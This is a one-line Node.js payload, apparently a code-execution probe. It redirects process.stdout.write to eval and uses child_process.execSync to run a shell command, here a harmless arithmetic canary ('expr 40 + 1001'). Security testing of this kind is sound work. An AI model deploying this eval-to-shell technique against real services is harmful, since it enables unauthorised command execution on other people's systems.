process.stdout.write=eval; process.stdout.write('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})');
